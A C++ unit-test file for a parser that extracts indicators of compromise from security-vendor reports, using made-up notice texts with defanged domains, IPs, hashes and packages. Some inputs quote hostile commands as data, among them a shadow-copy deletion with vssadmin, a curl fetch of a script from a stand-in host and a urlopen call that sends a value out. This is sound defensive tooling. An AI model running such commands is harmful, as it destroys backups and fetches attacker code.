// The forms that vendors and researchers publish in. Every text here is made up; the forms were met in real reports.
#include "clew/intel/detail/notice_under_test.h"

#include <algorithm>
#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace clew::intel {
namespace {

using detail::Values;
using detail::values_of;
using model::Notice;
using model::ValueType;
using detail::read;

/// Whatever is made of a text, each indicator stands where it says.
using detail::md5;
constexpr std::string_view sha1 = "10e2f7dd4b2bb4ac9ab2b0d136f48e5dc9acc451";
using detail::sha256;

std::string text(std::initializer_list<std::string_view> parts) {
  std::string whole;
  for (const std::string_view part : parts) whole += part;
  return whole;
}

TEST(VendorForms, HeadingsOfTagsEndATableOfContents) {
  const Notice notice =
      read(text({"# Sandfly\n## Table of Contents\n* [References](#ref)\n\n<h2>Samples <a name=\"s\"></a></h2>\n\n"
                 "<h6>Both were seen in May.</h6>\n\n",
                 md5, "\n\n<h2>Links</h2>\n* [Report](https://news.test/a)\n"}));
  EXPECT_EQ(values_of(notice), (Values{text({"md5 ", md5})}));
}

TEST(VendorForms, AControlEndpointIsOfTheIntruder) {
  EXPECT_EQ(
      values_of(read("# A backdoor\n\nThe three control endpoints on `198.18.7.9:3001` answered for two days.\n")),
      Values{"ipv4 198.18.7.9"});
}

TEST(VendorForms, ATableOfTagsBetweenLinesOfMarkdownHasColumns) {
  const Notice notice = read(
      text({"# Sandfly\n\n<table>\n<tr>\n<td>Hash (SHA1)</td>\n<td>Filename</td>\n<td>Domain</td>\n</tr>\n<tr>\n<td>",
            md5, "</td>\n<td>letter.doc</td>\n<td>a.moth.test</td>\n</tr>\n</table>\n\nMore text.\n"}));
  EXPECT_EQ(values_of(notice), (Values{"domain a.moth.test", text({"md5 ", md5})}));
  const Notice inline_table = read(
      "Text.\n\n<table><tbody><tr><td>What</td><td>Where</td></tr><tr><td>C2</td><td>45.9.148[.]7:8899</td></tr>"
      "</tbody></table>\n");
  EXPECT_EQ(values_of(inline_table), (Values{"ipv4 45.9.148.7"}));
}

TEST(VendorForms, ATableOfTagsThatIsNotClosedLosesNothing) {
  const Notice notice = read("<p>\n\n# Indicators\n<table>\n<tr><td>a.moth[.]test\n\nIt called b.moth[.]test.\n");
  EXPECT_EQ(values_of(notice), (Values{"domain a.moth.test", "domain b.moth.test"}));
}

TEST(VendorForms, AHeadingMarkThatStandsAloneTakesItsTextFromTheNextLine) {
  const Notice notice = read(text(
      {"##\n\n\nReferences\n\n\nhttps://news.test/a\n\n\n##\n\n\nObservations\n\n\nObservable Type Name Reference\n\n\n",
       sha256, " SHA-256 a.dll loader\n\n\nmoth\\[.\\]test domain-name C2\n"}));
  EXPECT_EQ(values_of(notice), (Values{"domain moth.test", text({"sha256 ", sha256})}));
}

TEST(VendorForms, AsciiDocHasHeadingsTablesAndLinks) {
  const Notice notice = read(text(
      {"= Sandfly Indicators of Compromise\n:vt: https://scan.test/\n\nThe full report is available\nat\n"
       "https://news.test/2015/05/sandfly.pdf\n\nThanks to https://labs.test/[the labs] for rules.\n\n== Samples\n\n"
       "[options=\"header\"]\n|===\n|File Hash | Version\n|{vt}",
       sha1, "[", sha1,
       "]| 20\n|===\n\n== Network\n\n|===\n| Domain name | IP Address | Description\n| `a.moth.test` | ",
       "`45.9.148.7`\n| C&C server\n|===\n"}));
  EXPECT_EQ(values_of(notice), (Values{"domain a.moth.test", "ipv4 45.9.148.7", text({"sha1 ", sha1})}));
  EXPECT_EQ(notice.source.title, "Sandfly Indicators of Compromise");
  EXPECT_EQ(notice.source.published, "");  // the date in an address is of another document
}

TEST(VendorForms, ATitleSaysNothingOfTheListsBelowOtherHeadings) {
  const Notice notice = read("# Malware traffic of Sandfly\n\n## Vendors that answered\n\n- alpha.test\n- beta.test\n");
  EXPECT_EQ(values_of(notice), Values{});
}

TEST(VendorForms, OfAUrlWhosePathIsAPlaceholderTheHostIsKnown) {
  const Notice notice = read("# URLs\n\n- hxxps://moth[.]test/aUvM/[4-digit number]\n- hxxps://t[.]me/[name]\n");
  const Values values = values_of(notice);
  EXPECT_TRUE(std::ranges::find(values, "domain moth.test") != values.end());
  EXPECT_TRUE(std::ranges::find(values, "domain t.me") == values.end());
}

TEST(VendorForms, AShareOfTheNetworkNamesItsHost) {
  const Values values = values_of(read("The file came from \\\\45.9.148[.]7@80\\share\\a.msi in May.\n"));
  EXPECT_TRUE(std::ranges::find(values, "ipv4 45.9.148.7") != values.end());
}

TEST(VendorForms, QuotedUrlsOfProgramsEndWithTheirQuote) {
  const Notice notice = read(
      "# Sandfly\n\n```\ndata = urlopen(Request('http://a.moth.test/x.php?name=v1')).read()\n"
      "<Relationship Type=\"http://schemas.openxmlformats.org/a\" Target=\"http://b.moth.test/n.php\"/>\n```\n");
  EXPECT_EQ(values_of(notice), (Values{"url http://a.moth.test/x.php?name=v1", "url http://b.moth.test/n.php"}));
}

TEST(VendorForms, CellsWithoutGapsArePartedWhereTheirEndsAreBeyondDoubt) {
  const Notice notice =
      read(text({"Indicators of compromise\nThe list below was observed.\nIndicatorTypeDescription", sha256,
                 "SHA-256Trojanized installerhxxps[:]//a.moth[.]test/logo.pngURLStage 2 staging "
                 "URLhxxps[:]//b.moth[.]test/in.phpURLCallback\nFurther reading\nMore.\n"}));
  EXPECT_EQ(values_of(notice),
            (Values{text({"sha256 ", sha256}), "url https://a.moth.test/logo.png", "url https://b.moth.test/in.php"}));
}

TEST(VendorForms, RowsThatLostTheirGapsArePartedBelowAHeadThatDidToo) {
  const Notice hashes = read(
      "# Sandfly\n\n## IoCs\n\nSHA-1FilenameDescription01FE1C67A2D28FCED849EE1BB76E7391B93EB12Cyacht.apkGame of version "
      "2.0.9A9B9D47AE36411B277544F25AD2CC955D8DD2C0N/ALoader.\n");
  EXPECT_EQ(values_of(hashes),
            (Values{"sha1 01fe1c67a2d28fced849ee1bb76e7391b93eb12c", "sha1 9a9b9d47ae36411b277544f25ad2cc955d8dd2c0"}));
  const Notice network = read(
      "# Sandfly\n\n## IoCs\n\nIPDomainProviderDetails45.9.148[.]7moth.com[.]cnNorth Host Co.2024-06-01Hosts the loader."
      "45.9.148[.]1171980moth.co[.]ukEast HostHosts it.45.9.148[.]8moth.co[.]uksand.co[.]ukEast HostHosts it.\n");
  EXPECT_EQ(values_of(network), (Values{"domain moth.com.cn", "ipv4 45.9.148.7", "ipv4 45.9.148.8"}))
      << "where the second address and the last two names end cannot be known";
  const Notice names = read(
      "# Sandfly\n\n## IoCs\n\nDomain nameTarget spoofedwww.news.moth[.]test.comMinistry of News\n\n"
      "Date registeredDomain name13th Nov 2021moth[.]org3rd Nov 2021www.sand[.]net\n\n"
      "MD5Description89fc1f32e1bbf794c41fa5f5bc6869c0Document\n\nComponentURLScripthttp://fly[.]com/a/key.php.NET tool\n");
  EXPECT_EQ(values_of(names), (Values{"domain moth.org", "domain www.news.moth.test.com", "domain www.sand.net",
                                      "md5 89fc1f32e1bbf794c41fa5f5bc6869c0", "url http://fly.com/a/key.php"}));
}

TEST(VendorForms, ARowThatLostItsGapsEndsWithItsDate) {
  const Notice notice = read(text(
      {"# Sandfly\n\n## IoCs\n\nIndicatorTypeDescriptionFirst seenmoth[.]comDomainRedirect2026-07-23sand[.]comDomainRedirect"
       "2026-07-1645.9.148[.]7 IP addressRecorder C22026-07-01",
       sha256, "File hashRecorder2026-07-10\n"}));
  EXPECT_EQ(values_of(notice),
            (Values{"domain moth.com", "domain sand.com", "ipv4 45.9.148.7", text({"sha256 ", sha256})}));
}

TEST(VendorForms, NoHashIsMadeOfLettersThatMayBelongToEitherCell) {
  const std::string lower = "be2d3ed67a577526fcbd9a154f522cce";
  const auto glued = [&](std::string_view before, std::string_view behind) {
    return values_of(read(text({"# IoCs\n\nMD5Description\n\n", before, lower, behind, "\n"})));
  };
  EXPECT_EQ(glued("Loader", "File"), (Values{"md5 " + lower})) << "the capital ends it";
  EXPECT_EQ(glued("Code", " seen"), (Values{"md5 " + lower})) << "a word before it, none behind";
  EXPECT_EQ(glued("Loader", "adware"), Values{}) << "it may begin with the letters before it";
  EXPECT_EQ(glued("Picturehxxps://moth[.]com/d/", "/logo.pngLogo.png fetched"),
            (Values{"url https://moth.com/d/" + lower + "/logo.png"}))
      << "digits of a path";
}

TEST(VendorForms, AnAddressMayBeStatedAfterTheSentenceOnItsServer) {
  EXPECT_EQ(values_of(read(
                "# Sandfly\n\nThe program talks to its C2 server. The host IP is 45.9.148.7 and the port is 5602.\n\n"
                "Our site moved. Its new address is 45.9.148.8.\n")),
            (Values{"ipv4 45.9.148.7"}));
}

TEST(VendorForms, UrlsThatLostWhatPartedThemAreSeveral) {
  EXPECT_EQ(
      values_of(read("# IoCs\n\nhttps://moth[.]com/a.dathttps://sand[.]com/b.dathttps://fly[.]com/c.datAt first\n")),
      (Values{"url https://fly.com/c.dat", "url https://moth.com/a.dat", "url https://sand.com/b.dat"}));
  EXPECT_EQ(values_of(read("# IoCs\n\nhxxps://moth[.]com/web/https://news.test/a\n")),
            (Values{"url https://moth.com/web/https://news.test/a"}));
}

TEST(VendorForms, ABrokenLinkIsNoPlaceToReadOn) {
  EXPECT_EQ(values_of(read("# IoCs\n\nLinks\n\n\n\nURL\nDescription\n\n\nhxxp://moth[.]com/a\nLoader\n")),
            (Values{"url http://moth.com/a"}));
  EXPECT_EQ(values_of(read("# Sandfly\n\n## References\n\n- hxxp://news[.]com/a\n")), Values{});
}

TEST(VendorForms, TheFingerprintOfACertificateOrKeyIsNoFile) {
  EXPECT_EQ(
      values_of(read(text({"# Sandfly\n\n    SHA-1 Fingerprint:   ", sha1, "\n\nPublicKey_MD5   - ", md5, "\n"}))),
      (Values{text({"certificate ", sha1})}));
}

TEST(VendorForms, AListOfAccountsEndsAListOfPackages) {
  const Notice notice = read(
      "# Alert\n\nIndicators\nMalicious npm packages\nleft-moth\nsandjs\nMalicious GitHub accounts\nMothTeam\nmothdev\n"
      "Malicious npm accounts\nsand.fly.7\nExternal References\nhttps://news.test/a\n");
  EXPECT_EQ(values_of(notice), (Values{"account MothTeam", "account mothdev", "account sand.fly.7", "package left-moth",
                                       "package sandjs"}));
  EXPECT_EQ(
      values_of(read("## Malicious accounts\n\n- The account was closed.\n- mothdev\n\n## Compromised accounts\n\n"
                     "- bob\n- bob@sand.test\n")),
      (Values{"account mothdev"}));
}

TEST(VendorForms, AUrlSetInItalicsEndsBeforeItsMark) {
  EXPECT_EQ(values_of(read(
                "# IoCs\n\n| Indicator | Description |\n| --- | --- |\n| _hxxps\\[:\\]//moth\\[.\\]com:443/in_ | C2 |\n"
                "\nIt fetched _hxxps://sand[.]com/a_b_ twice.\n")),
            (Values{"url https://moth.com:443/in", "url https://sand.com/a_b"}));
}

TEST(VendorForms, AWholeNameInCodeIsNotMeantWhereTheSentenceSpeaksOfWhatIsLegitimate) {
  EXPECT_EQ(values_of(read(
                "# Sandfly\n\nIt leverages the legitimate chain via the `api.chain.com` endpoint to tell the malware "
                "its C2 server.\n\nThe C2 server is `c2.chain.com`.\n")),
            (Values{"domain c2.chain.com"}));
}

TEST(VendorForms, AWholeNameBelowABrokenOneIsWhatItImitates) {
  EXPECT_EQ(
      values_of(read("C&C domain\nLegitimate domain\n\n\ncdn-moth[.]com\ncdn.moth.com\n\n\nsand[.]com\n45.9.148.7\n")),
      (Values{"domain cdn-moth.com", "domain sand.com", "ipv4 45.9.148.7"}));
}

TEST(VendorForms, ABrokenDotMeansAHostWhateverStandsAboveIt) {
  EXPECT_EQ(values_of(read("# IoCs\n\nFile Name\n\nmoth[.]com\n")), (Values{"domain moth.com"}));
  EXPECT_EQ(values_of(read("# IoCs\n\n45.9.148[.]7\nInstaller package C2\nmoth[.]ml\n")),
            (Values{"domain moth.ml", "ipv4 45.9.148.7"}));
}

TEST(VendorForms, TwoValuesJoinedByABarAreOneEntry) {
  EXPECT_EQ(values_of(read("# IoCs\n\nIOC\n\n\nDescription\n\n\nmoth[.]eu|45.9.148.7\n\n\nRecorder 2018-10-17\n")),
            (Values{"domain moth.eu", "ipv4 45.9.148.7"}));
}

TEST(VendorForms, PackagesComeWithVersionsAsFilesAndInPlainLists) {
  EXPECT_EQ(values_of(read("## Malicious packages\n\n- moth-core@1.2.3\n- `@moth/tools@2.0.0`\n- moth-utils==0.4\n"
                           "- [Newsletter](/join)\n- Use of a tool\n")),
            (Values{"package @moth/tools", "package moth-core", "package moth-utils"}));
  EXPECT_EQ(values_of(read(
                text({"## Malicious packages\n\n| Package | SHA-256 |\n|---|---|\n| `moth-1.4-py3-none-any.whl` | ",
                      sha256, " |\n"}))),
            (Values{"package moth", text({"sha256 ", sha256})}));
  EXPECT_EQ(values_of(read("Some text.\n\nAppendix A: npm Compromised Package Versions\ntype\tID\tVersion\n"
                           "@moth/sdk\tX-1\t0.1.18;0.1.19\nmoth-cli\tX-2\t0.1.4\n")),
            (Values{"package @moth/sdk", "package moth-cli"}));
}

TEST(VendorForms, AnAccountOfARegistryIsNoPackage) {
  EXPECT_EQ(values_of(read("The npm account `fly-dev` published the malicious package `moth-core`.\n")),
            (Values{"package moth-core"}));
}

TEST(VendorForms, AScopedNameNeedsNoWordForPackage) {
  EXPECT_EQ(values_of(read("Attackers published malicious versions of `@moth/web` in May.\n")),
            (Values{"package @moth/web"}));
}

TEST(VendorForms, AContainersImageIsNoPlaceThatIsCalled) {
  EXPECT_EQ(values_of(read("Teams pulled the compromised `ghcr.io/moth/tool:latest` image.\n")), Values{});
}

TEST(VendorForms, ASerialNumberOrAPasswordsHashIsNoFile) {
  EXPECT_EQ(values_of(read(text({"# Hunting\n\nwhere CertificateSerialNumber == \"", md5, "\"\n"}))), Values{});
  EXPECT_EQ(values_of(read(text({"The attacker used the dumped NTLM hash (`", md5, "`).\n"}))), Values{});
}

TEST(VendorForms, AnAddressOfAChainAloneOnItsLineIsMeant) {
  EXPECT_EQ(values_of(read("The coins were moved on.\n\n0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe\n")),
            (Values{"eth_address 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae"}));
}

TEST(VendorForms, WhatIsSaidOfTheFirstAddressIsSaidOfAll) {
  EXPECT_EQ(values_of(read("Connections were observed to `45.141.84.62`, `45.141.84.63`, and `2a0b:6b80:1::44`.\n")),
            (Values{"ipv4 45.141.84.62", "ipv4 45.141.84.63", "ipv6 2a0b:6b80:1::44"}));
}

TEST(VendorForms, WordsAboutAnAccountAreNoAccount) {
  EXPECT_EQ(values_of(read("# Indicators\n\n| Type | Value |\n|---|---|\n| Account | the account of one maintainer |\n"
                           "| Account | moth-dev |\n")),
            (Values{"account moth-dev"}));
}

TEST(VendorForms, ScanningSourcesAreNoReferences) {
  EXPECT_EQ(values_of(read("# Sandfly\n\n## Observed scanning sources\n\n- 45.227.252.236\n- 45.227.252.241\n")),
            (Values{"ipv4 45.227.252.236", "ipv4 45.227.252.241"}));
}

TEST(VendorForms, AHeadingThatOffersHelpAtLengthIsNoContact) {
  const Notice notice =
      read(text({"## Details that may help your team with internal investigations\n\n"
                 "### Malicious files to search for and remove:\n\n* setup.dmg (SHA256: ",
                 sha256, ")\n"}));
  const Values values = values_of(notice);
  EXPECT_TRUE(std::ranges::find(values, text({"sha256 ", sha256})) != values.end());
}

TEST(VendorForms, AHashWhereARemarkIsExpectedIsAValueAndAFilesNameIsNoHost) {
  const Notice notice = read(text({"# Indicators\n\n|Indicator|Description|\n|---|---|\n|Special Benefits.docx|",
                                   sha256, "|\n|moth.exe|dropper|\n|45.9.148.7|C2|\n"}));
  EXPECT_EQ(values_of(notice), (Values{"file_name Special Benefits.docx", "file_name moth.exe", "ipv4 45.9.148.7",
                                       text({"sha256 ", sha256})}));
}

TEST(VendorForms, AWalletThatBeginsAnItemIsMeantButForAVictimsOrAGift) {
  EXPECT_EQ(values_of(read("## Onchain\n\n- 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe - moved on in May\n"
                           "- 0x52908400098527886E0F7030069857D2E4169EE7 - Victim\n"
                           "\n## Donations\n\n- 0x8617E340B3D01FA5F11F306F4090FD50E238070D\n")),
            (Values{"eth_address 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae"}));
  EXPECT_EQ(values_of(read("The exploiter sent all of it to 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe in May.\n")),
            (Values{"eth_address 0xde0b295669a9fd93d5f28d9ec85e40f4cb697bae"}));
}

TEST(VendorForms, AKeyOrABuildIsNoFile) {
  EXPECT_EQ(values_of(read(text({"It decrypts the rest with the AES key ", md5, ", which it holds.\n"}))), Values{});
  EXPECT_EQ(values_of(read(text({"# Sandfly\n\n```\nrun(decrypt('", md5, "'))\n```\n"}))), Values{});
  EXPECT_EQ(values_of(read(text({"## IOCs\n\n- Build ID (ELF): `", sha1, "`\n"}))), Values{});
}

TEST(VendorForms, WhatIsListedUnderCertificatesOfServersIsOne) {
  EXPECT_EQ(values_of(read(text({"# Indicators\n\n## TLS certificate\n\n```\n", sha1, "\n```\n"}))),
            (Values{text({"certificate ", sha1})}));
}

TEST(VendorForms, FilesLeadLinesOfAListOfIndicators) {
  EXPECT_EQ(values_of(read("# Indicators of compromise\n\n- `moth.exe`\n- moth.dll - loader\n- tools/run.ps1\n"
                           "- moth.exe was seen in May\n- `svchost.exe`\n- moth.php?id=2\n")),
            (Values{"file_name moth.dll", "file_name moth.exe", "file_path tools/run.ps1"}));
  EXPECT_EQ(values_of(read("# Malware\n\n- `index.js`: where it begins\n")), Values{});
}

TEST(VendorForms, ANameOfAFileInABlockOfCodeMayHoldBlanks) {
  EXPECT_EQ(values_of(read("# Indicators\n\n## File names\n\n```\nInvoice of May.docx\nmoth.exe -o out.txt\n"
                           "C:\\temp\\moth.exe # loader\n```\n")),
            (Values{"file_name Invoice of May.docx", R"(file_path C:\temp\moth.exe)"}));
}

TEST(VendorForms, NamesOfCodeOfAppsAndOfHiddenAddressesAreNoHosts) {
  EXPECT_EQ(values_of(read("# Indicators\n\n| Property | Value |\n|---|---|\n| App | `com.moth.flutterby` |\n")),
            Values{});
  EXPECT_EQ(values_of(read("# C2 traffic\n\n```\nrequests.post\nsubprocess.run\nIP: 203.xxx.xxx.xxx\n```\n")),
            Values{});
}

TEST(VendorForms, AVerbBeforePackagesIsNone) {
  EXPECT_EQ(values_of(read("## Remove these malicious packages\n\n- **Uninstall** `moth-core`\n- moth-cli `1.2.0`\n")),
            (Values{"package moth-cli"}));
}

TEST(VendorForms, AHostMayStandInBracketsAsAWhole) {
  EXPECT_EQ(values_of(read("It loads `http://[45.9.148.7:8080]/dl` and asks `https://[a.moth.test]:8083/ip`.\n")),
            (Values{"url http://45.9.148.7:8080/dl", "url https://a.moth.test:8083/ip"}));
  EXPECT_EQ(values_of(read("|mod|link|\n|---|---|\n|Moth| `[files.moth.test]/mods/41` |\n")),
            (Values{"url files.moth.test/mods/41"}));
}

TEST(VendorForms, AListOfPackagesIsLedInByTheParagraphAboveIt) {
  EXPECT_EQ(values_of(read("# Notice\n\nWe were told of two malicious crates.\n\nThese crates were:\n"
                           "- `moth_core` - published in May\n- `moth_web` - published in June\n")),
            (Values{"package moth_core", "package moth_web"}));
  EXPECT_EQ(values_of(read("# Notice\n\nWe looked at our build.\n\nIts crates are:\n- `moth_core`\n")), Values{});
}

TEST(VendorForms, OptionsOfACommandAreNoPath) {
  EXPECT_EQ(values_of(read("# Malware\n\n1. `vssadmin.exe delete shadows /all /quiet` before it starts\n")), Values{});
}

TEST(VendorForms, WhoReceivedAMailIsNoSender) {
  EXPECT_EQ(values_of(read("The phishing email was received by jane@acme.test in May.\n")), Values{});
}

TEST(VendorForms, ASentenceWithAColonIsNoHeading) {
  EXPECT_EQ(values_of(read("# Day\n\nThey checked their IP address:\n\nNothing more.\n\nThey ran it:\n\n"
                           "C:\\tools\\python.exe  main.py\n")),
            Values{});
}

TEST(VendorForms, WhatAProgramContactsIsMeant) {
  EXPECT_EQ(values_of(read("It attempts to contact a page (`https://a.moth.test/ip`) in May.\n")),
            (Values{"url https://a.moth.test/ip"}));
}

TEST(VendorForms, ANamedSampleOfAListOfIndicatorsIsAFile) {
  EXPECT_EQ(values_of(read("# IOCs\n\n## Sample\n- Sample name: `Moth.exe`\n")), (Values{"file_name Moth.exe"}));
}

TEST(VendorForms, APackageMayBePartedFromItsVersionsByAColon) {
  EXPECT_EQ(values_of(read("## Compromised packages\n\n- moth-core: 1.2.3, 1.2.4 (popular)\n- @moth/web: 0.4.0\n"
                           "- moth-cli: not installed\n")),
            (Values{"package @moth/web", "package moth-core"}));
}

TEST(VendorForms, UrlsOfAConfigurationArePartedByCommas) {
  EXPECT_EQ(values_of(read("# Sandfly\n\n```\nA:http://a.moth.test/x1,B:http://b.moth.test/x2,MX:1\n```\n")),
            (Values{"url http://a.moth.test/x1", "url http://b.moth.test/x2"}));
}

TEST(VendorForms, WhatAKeyOfTheRegistryIsSetToIsNoPartOfIt) {
  EXPECT_EQ(
      values_of(read("# Indicators\n\n## Registry keys\n\n```\nHKCU\\Software\\Run\\Moth -> C:\\moth.exe\n```\n")),
      (Values{R"(registry_key HKCU\Software\Run\Moth)"}));
}

TEST(VendorForms, ASiteThatIsCalledAnImpostorIsMeant) {
  EXPECT_EQ(values_of(read("The site **https://moth-tool.com/** is impersonating this project, which lives at "
                           "https://moth.tools/ since May.\n")),
            (Values{"url https://moth-tool.com/"}));
}

TEST(VendorForms, ALineOfTildesBelowAHeadingFencesOffNothing) {
  EXPECT_EQ(values_of(read("Report\n======\n\nWhat happened\n~~~~~~~~~~~~~\n\nNothing.\n\nMalicious packages\n"
                           "~~~~~~~~~~~~~~~~~~\n\n- moth-core\n")),
            (Values{"package moth-core"}));
  EXPECT_EQ(values_of(read(
                "# Report\n\n## C2 servers\n\nThey are:\n~~~\na.moth.test\n~~~\n\nThe site b.moth.test is ours.\n")),
            (Values{"domain a.moth.test"}));
}

TEST(VendorForms, ARemarkInAProgramIsNoHeading) {
  EXPECT_EQ(values_of(read("Report\n======\n\n1. Look:\n\n   .. code-block:: bash\n\n      # Find malicious packages\n"
                           "      npm list\n\nOthers\n------\n\n- `moth-core` - clean\n")),
            Values{});
}

TEST(VendorForms, ATableOfSettingsSaysWhatItsValuesAre) {
  EXPECT_EQ(values_of(read(text({"# Configuration\n\n| Setting | Value |\n|---|---|\n"
                                 "| Hosts | `127.0.0.1`, `a.moth[.]test`, `b.moth[.]test` |\n| Mutex | `Qs81xT` |\n"
                                 "| Certificate | X.509, `CN=Server`, SHA-1 `",
                                 sha1, "` |\n| Username | jane |\n"}))),
            (Values{text({"certificate ", sha1}), "domain a.moth.test", "domain b.moth.test", "mutex Qs81xT"}));
}

TEST(VendorForms, BesideAHashTheFileIsItsName) {
  EXPECT_EQ(values_of(read(text({"# Indicators\n\n| File | Hash |\n|---|---|\n| Moth x64 | `", sha256, "` |\n"}))),
            (Values{text({"sha256 ", sha256})}));
}

TEST(VendorForms, ADefangedFileIsNoHost) {
  EXPECT_EQ(values_of(read("# Sandfly\n\nIt asks moth[.]test for the file 41[.]dat in May.\n")),
            (Values{"domain moth.test"}));
}

TEST(VendorForms, APathInCodeKeepsItsTildeAndItsBlanks) {
  EXPECT_EQ(values_of(read("# Indicators\n\n- `~/.moth/User Name.txt`\n")),
            (Values{"file_path ~/.moth/User Name.txt"}));
}

TEST(VendorForms, WhatIsSetOffAsLegitimateIsNotMeant) {
  EXPECT_EQ(
      values_of(read("The suspicious host called moth[.]test and the domain `certs.sand.test` (legitimate) in May.\n")),
      (Values{"domain moth.test"}));
}

TEST(VendorForms, AListOfClassesNamesNoMutex) {
  EXPECT_EQ(values_of(read("# Malware\n\nIt uses `Mutex`, `GZipStream` and `SslStream`.\n")), Values{});
}

TEST(VendorForms, AHashMayLinkToItsReport) {
  EXPECT_EQ(values_of(read(text({"MD5 : [", md5, "](https://scan.test/#/file/1)\n"}))), (Values{text({"md5 ", md5})}));
}

TEST(VendorForms, AnItemLeadsInTheDeeperOnes) {
  EXPECT_EQ(values_of(read("# Advice\n\n- Update to a sound release:\n  - a.sand.test\n- Block the malicious domains:\n"
                           "  - `45.9.148.7` (moth.test)\n- More on these domains at:\n"
                           "  - https://b.sand.test/report\n- Read on at c.sand.test\n")),
            (Values{"domain moth.test", "ipv4 45.9.148.7"}));
}

TEST(VendorForms, LinesOfALabelAndAValueAreAList) {
  EXPECT_EQ(values_of(read("# Report\n\n**Domains used by the attacker**\nThese were found in the log.\n"
                           "domain one: a.moth.test:8080\ndomain two: b.moth.test\n")),
            (Values{"domain a.moth.test", "domain b.moth.test"}));
}

TEST(VendorForms, WhereAProgramCopiesItselfIsMeant) {
  EXPECT_EQ(values_of(read("The dropper copies itself to %System%\\moth.exe at once.\n")),
            (Values{R"(file_path %System%\moth.exe)"}));
}

TEST(VendorForms, InATableTheValueSetAsCodeStandsBeforeARemark) {
  EXPECT_EQ(values_of(read("# Attack\n\n## IOCs\n\n| Type | Value |\n|---|---|\n"
                           "| Windows path | `C:\\Moth\\m.exe` (a renamed shell) |\n"
                           "| Windows artefact | `C:\\Gnat\\g.exe` (a renamed shell) |\n"
                           "| Intruder | `gnat` (mail: `gnat@moth.example`) |\n")),
            (Values{"email gnat@moth.example", R"(file_path C:\Gnat\g.exe)", R"(file_path C:\Moth\m.exe)"}));
}

TEST(VendorForms, QuestionsOfAnExerciseAreNoContact) {
  const std::string command = "### 1. Which command was run?\n\n```sh\ncurl https://moth.test/m.sh\n```\n";
  EXPECT_EQ(values_of(read("# Attack\n\n## Project questions\n\n" + command)), (Values{"url https://moth.test/m.sh"}));
}

struct HeadCase {
  std::string_view name;
  std::string text, title, publisher, published;
};

TEST(VendorForms, TheHeadSaysWhoWroteAndWhen) {
  const std::vector<HeadCase> cases = {
      {"lines", "Acme Labs: Sandfly returns\nA look at an attack\nBy Jane Doe | 14 Mar 2024\n\nText.\n",
       "Acme Labs: Sandfly returns", "Jane Doe", "2024-03-14"},
      {"link", "# Sandfly\n\nPublished by [Acme Lab](https://acme.test/) on 14 March 2024\n\nText.\n", "Sandfly",
       "Acme Lab", "2024-03-14"},
      {"plain", "Sandfly strikes\nPublished by Acme Lab on March 14, 2024\n\nText.\n", "Sandfly strikes", "Acme Lab",
       "2024-03-14"},
      {"fields", "---\ntitle: Sandfly\nauthor: Jane Doe\nsource: Acme News\ndate: 2024-03-14\n---\nText.\n", "Sandfly",
       "Acme News", "2024-03-14"},
      {"fields_of_toml",
       "+++\ntitle = \"Sandfly\"\ndate = 2024-03-14\nteam_url = \"https://acme.test/team\"\n+++\nText.\n", "Sandfly",
       "", "2024-03-14"},
      {"headline",
       "---\ntitle: Sandfly returns\nauthor: Jane Doe\n---\nSource: [Sandfly returns](https://acme.test/a)\n",
       "Sandfly returns", "Jane Doe", ""},
      {"intruder", "# Sandfly\n\nThe files were uploaded\nby the attacker on 7 August 2024 and removed.\n", "Sandfly",
       "", ""},
      {"deed", "# Sandfly\n\nOn 2 December 2024, attackers published malicious versions.\n", "Sandfly", "", ""},
  };
  for (const HeadCase& row : cases) {
    const Notice notice = read(row.text);
    EXPECT_EQ(notice.source.title, row.title) << row.name;
    EXPECT_EQ(notice.source.publisher, row.publisher) << row.name;
    EXPECT_EQ(notice.source.published, row.published) << row.name;
  }
}

TEST(VendorForms, RequestsThatANoticeShowsNameTheirHosts) {
  const Notice notice = read(
      "# Another wave\n\nThis is what the samples ask for:\n\nGET moth.test /a1\nPOST 198.51.100.7 /data/info.php\n"
      "GET sand.moth.test /b2\n\nWe GET home late, and read site.test every day.\n");
  EXPECT_EQ(values_of(notice), (Values{"domain moth.test", "domain sand.moth.test", "ipv4 198.51.100.7"}));
}

TEST(VendorForms, AHostInCodeIsOneBesideAnotherAndBeforeItsPort) {
  EXPECT_EQ(values_of(read("# A wave\n\n1. Look for connections to `moth[.]test` or `198.51.100.7` in May\n")),
            (Values{"domain moth.test", "ipv4 198.51.100.7"}));
  EXPECT_EQ(values_of(read("# A wave\n\nThe loader asks `198.51.100.7` on port 8000.\n")),
            (Values{"ipv4 198.51.100.7"}));
}

TEST(VendorForms, TargetedWalletsAreProgramsOfTheVictims) {
  EXPECT_EQ(values_of(read("# A stealer\n\n## Samples\n\n- moth[.]test\n\n## Details\n\n### Targeted wallets\n\n"
                           "- Purse.com\n- Purse.com Edge\n")),
            (Values{"domain moth.test"}));
}

TEST(VendorForms, IndicatorsBehindAcknowledgementsAreIndicatorsWithoutABlankLine) {
  const Notice notice = read(
      "A phishing operation\nAcknowledgements\nIcons by a friend.\nIndicators of Compromise\nMany are in a file.\n"
      "Appendix B: Themes\nDomain\nRegistrant\nmoth[.]test\na[@]sand.test\nGo Daddy\n");
  EXPECT_EQ(values_of(notice), (Values{"domain moth.test", "email a@sand.test"}));
}

TEST(VendorForms, KeysInBracketsAndClassesOfProgramsAreNoValues) {
  EXPECT_EQ(values_of(read(text({"# A driver\n\nThe malware has the same XOR key (", sha256, ") as others.\n"}))),
            Values{});
  EXPECT_EQ(values_of(read("# A loader\n\nIt makes a System[.]Net.WebClient and loads from moth[.]test\n")),
            (Values{"domain moth.test"}));
}

TEST(VendorForms, HashesInOnePieceBehindTheNameOfTheirKindAreParted) {
  const Notice notice = read(text({"# A spy\n\nIt is tracked.SHA-1s", sha1, "01fe1c67a2d28fced849ee1bb76e7391b93eb12c",
                                   "Want to learn more? The C2 is moth[.]test now.\n"}));
  EXPECT_EQ(values_of(notice),
            (Values{"domain moth.test", "sha1 01fe1c67a2d28fced849ee1bb76e7391b93eb12c", text({"sha1 ", sha1})}));
}

TEST(VendorForms, AnAddressBehindADashBelongsToTheHostBeforeIt) {
  const Notice notice = read(
      "# Fake pages\n\nThe six pages were these:\n\nhttps://moth[.]test \xe2\x80\x93 2001:db8:6f00:1::5c35:6029\n"
